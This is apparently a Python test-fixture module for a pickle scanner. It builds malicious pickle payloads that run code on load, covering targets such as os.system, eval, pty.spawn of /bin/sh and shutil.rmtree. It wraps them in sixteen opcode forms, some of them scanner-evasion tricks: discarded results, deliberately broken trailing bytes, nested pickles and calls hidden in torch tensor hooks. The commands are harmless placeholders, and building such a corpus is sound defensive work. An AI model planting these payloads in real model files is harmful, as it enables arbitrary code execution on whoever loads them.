"""Pickles that run code when Python loads them: each published trick, by every opcode that can import or call.

The places where scanners were fooled stand behind the names: builtins by other paths, functions that import or call
others, names with dots, results that are thrown away, pickles in pickles, errors on purpose.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator

from .torch_bytes import call, dict_of, integer, name, storage, tensor, text, tuple_of

COMMAND = "echo should never be seen"

TARGETS: dict[str, tuple[str, str, tuple[bytes, ...]]] = {
    "os.system": ("os", "system", (text(COMMAND),)),
    "posix.system": ("posix", "system", (text(COMMAND),)),
    "nt.system": ("nt", "system", (text(COMMAND),)),
    "os.popen": ("os", "popen", (text(COMMAND),)),
    "os.execv": ("os", "execv", (text("sh"), b"]")),
    "os.remove": ("os", "remove", (text("precious"),)),
    "subprocess.Popen": ("subprocess", "Popen", (text(COMMAND),)),
    "subprocess.check_output": ("subprocess", "check_output", (text(COMMAND),)),
    "subprocess.getoutput": ("subprocess", "getoutput", (text(COMMAND),)),
    "builtins.eval": ("builtins", "eval", (text("__import__('os').system('id')"),)),
    "builtins.exec": ("builtins", "exec", (text("import os"),)),
    "__builtin__.eval": ("__builtin__", "eval", (text("1"),)),
    "__builtin__.compile": ("__builtin__", "compile", (text("1"), text("x"), text("eval"))),
    "builtins.__import__": ("builtins", "__import__", (text("antigravity"),)),
    "builtins.getattr": ("builtins", "getattr", (name("os", "path"), text("os"))),
    "builtins.open": ("builtins", "open", (text("made by a pickle"), text("w"))),
    "builtins.input": ("builtins", "input", (text("?"),)),
    "builtins.breakpoint": ("builtins", "breakpoint", ()),
    "io.open": ("io", "open", (text("made by a pickle"), text("w"))),
    "codecs.open": ("codecs", "open", (text("made by a pickle"), text("w"))),
    "importlib.import_module": ("importlib", "import_module", (text("antigravity"),)),
    "runpy.run_path": ("runpy", "run_path", (text("x.py"),)),
    "runpy._run_code": ("runpy", "_run_code", (text("import os"), b"}")),
    "pkgutil.resolve_name": ("pkgutil", "resolve_name", (text("os:system"),)),
    "operator.attrgetter": ("operator", "attrgetter", (text("system"),)),
    "operator.methodcaller": ("operator", "methodcaller", (text("system"), text(COMMAND))),
    "_operator.attrgetter": ("_operator", "attrgetter", (text("system"),)),
    "functools.partial": ("functools", "partial", (name("os", "system"), text(COMMAND))),
    "functools.reduce": ("functools", "reduce", (name("os", "system"), b"](" + text(COMMAND) + b"e")),
    "ctypes.CDLL": ("ctypes", "CDLL", (text("libc.so.6"),)),
    "ctypes.CFUNCTYPE": ("ctypes", "CFUNCTYPE", (b"N",)),
    "pydoc.locate": ("pydoc", "locate", (text("os.system"),)),
    "pydoc.pipepager": ("pydoc", "pipepager", (text("x"), text(COMMAND))),
    "pty.spawn": ("pty", "spawn", (text("/bin/sh"),)),
    "socket.create_connection": ("socket", "create_connection", (tuple_of(text("127.0.0.1"), integer(9)),)),
    "urllib.request.urlopen": ("urllib.request", "urlopen", (text("http://127.0.0.1:9"),)),
    "webbrowser.open": ("webbrowser", "open", (text("http://127.0.0.1:9"),)),
    "asyncio.create_subprocess": ("asyncio.subprocess", "create_subprocess_shell", (text(COMMAND),)),
    "multiprocessing.Process": ("multiprocessing", "Process", ()),
    "pickle.loads": ("pickle", "loads", (b"C\x15cos\nsystem\n(S'id'\ntR.",)),
    "_pickle.loads": ("_pickle", "loads", (b"C\x15cos\nsystem\n(S'id'\ntR.",)),
    "shelve.open": ("shelve", "open", (text("x"),)),
    "marshal.loads": ("marshal", "loads", (b"C\x01N",)),
    "types.CodeType": ("types", "CodeType", ()),
    "types.FunctionType": ("types", "FunctionType", (b"N", b"}")),
    "numpy.load": ("numpy", "load", (text("x.npy"),)),
    "numpy.testing.runstring": ("numpy.testing._private.utils", "runstring", (text("import os"), b"}")),
    "numpy.f2py": ("numpy.f2py.crackfortran", "getlincoef", (text("__import__('os')"), b"}")),
    "torch.load": ("torch", "load", (text("x.pt"),)),
    "torch.jit.load": ("torch.jit", "load", (text("x.pt"),)),
    "torch.hub.load": ("torch.hub", "load", (text("a/b"), text("c"))),
    "torch._dynamo": ("torch._dynamo.guards", "GuardBuilder.get", (text("os"),)),
    "torch.utils.bottleneck": ("torch.utils.bottleneck.__main__", "run_cprofile", (text("import os"), b"}")),
    "torch.package": ("torch.package", "PackageImporter", (text("x"),)),
    "timeit.timeit": ("timeit", "timeit", (text("import os"),)),
    "cProfile.run": ("cProfile", "run", (text("import os"),)),
    "trace.Trace": ("trace", "Trace.run", (text("import os"),)),
    "bdb.Bdb.run": ("bdb", "Bdb.run", (text("import os"),)),
    "idlelib": ("idlelib.pyshell", "ModifiedInterpreter.runcode", (text("import os"),)),
    "lib2to3": ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", (text("x"),)),
    "doctest": ("doctest", "debug_script", (text("import os"),)),
    "ensurepip": ("ensurepip", "_run_pip", (b"]",)),
    "venv": ("venv", "create", (text("x"),)),
    "code.interact": ("code", "InteractiveInterpreter", ()),
    "gc.get_objects": ("gc", "get_objects", ()),
    "sys.settrace": ("sys", "settrace", (name("os", "system"),)),
    "copyreg._reconstructor": ("copyreg", "_reconstructor", (name("os", "PathLike"), name("builtins", "object"), b"N")),
    "logging.config": ("logging.config", "valid_ident", (text("x"),)),
    "tempfile.mkstemp": ("tempfile", "mkstemp", ()),
    "shutil.rmtree": ("shutil", "rmtree", (text("precious"),)),
    "a class of its own": ("my.module", "Model", ()),
}
"""What is called, with what."""


def _short(content: str) -> bytes:
    return b"\x8c" + bytes((len(content),)) + content.encode()


def _reduce(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    return call(name(module, attribute), *args)


def _stack_global(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    return call(_short(module) + _short(attribute) + b"\x93", *args)


def _dotted(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    top, _, rest = module.partition(".")
    return call(_short(top) + _short(f"{rest}.{attribute}".lstrip(".")) + b"\x93", *args)


def _inst(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    return b"(" + b"".join(args) + f"i{module}\n{attribute}\n".encode()


def _obj(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    return b"(" + name(module, attribute) + b"".join(args) + b"o"


def _newobj(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    return name(module, attribute) + tuple_of(*args) + b"\x81"


def _newobj_ex(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    return name(module, attribute) + tuple_of(*args) + dict_of((text("shell"), b"\x88")) + b"\x92"


def _build(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    """An object whose state sets a method to the function: the next call of it runs."""
    return (
        name("my.module", "C")
        + b")\x81"
        + dict_of((text("__setstate__"), name(module, attribute)))
        + b"b"
        + tuple_of(*args)
        + b"b"
    )


def _popped(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    """The result is thrown away, so that the value looks harmless."""
    return call(name(module, attribute), *args) + b"0}"


def _memoised(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    return name(module, attribute) + b"q\x51" + b"0" + b"h\x51" + tuple_of(*args) + b"R"


def _error_first(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    """It runs, and then the pickle is broken, so that a scanner that gives up sees nothing."""
    return call(name(module, attribute), *args) + b"\xff"


def _by_items(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    return name("collections", "defaultdict") + tuple_of(name(module, attribute)) + b"R(" + text("k") + b"Nu"


def _as_key(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    return b"}" + call(name(module, attribute), *args) + b"Ns"


def _in_a_tensor(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    """The call hides among the arguments of a tensor, as its hooks."""
    inner = call(name(module, attribute), *args)
    return call(
        name("torch._utils", "_rebuild_parameter_with_state"), tensor(storage(text("0"), 1), (1,)), b"\x89", inner, b"}"
    )


def _by_type(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    """torch's own function that calls what it is given."""
    return call(name("torch._tensor", "_rebuild_from_type_v2"), name(module, attribute), b"N", tuple_of(*args), b"}")


def _nested(module: str, attribute: str, args: tuple[bytes, ...]) -> bytes:
    inner = b"\x80\x02" + call(name(module, attribute), *args) + b"."
    raw = b"B" + struct.pack("<I", len(inner)) + inner
    return call(name("torch.storage", "_load_from_bytes"), raw)


FORMS: dict[str, Callable[[str, str, tuple[bytes, ...]], bytes]] = {
    "REDUCE": _reduce,
    "STACK_GLOBAL": _stack_global,
    "dotted": _dotted,
    "INST": _inst,
    "OBJ": _obj,
    "NEWOBJ": _newobj,
    "NEWOBJ_EX": _newobj_ex,
    "BUILD": _build,
    "popped": _popped,
    "memoised": _memoised,
    "broken behind": _error_first,
    "items": _by_items,
    "as a key": _as_key,
    "in a tensor": _in_a_tensor,
    "by type": _by_type,
    "nested": _nested,
}


def payloads(every: int = 1) -> Iterator[tuple[str, bytes]]:
    """Each target by REDUCE, and by one other form in turn; all forms of all targets for ``every`` = 0."""
    forms = list(FORMS.items())
    for number, (target, (module, attribute, args)) in enumerate(TARGETS.items()):
        chosen = (
            forms
            if every == 0
            else [forms[0], forms[1 + number % (len(forms) - 1)], forms[1 + (number + 7) % (len(forms) - 1)]]
        )
        for form, build in chosen:
            yield f"{target} by {form}", build(module, attribute, args)
    for extension in (b"\x82\x01", b"\x83\x01\0", b"\x84\x01\0\0\0"):
        yield f"extension {extension.hex()}", extension
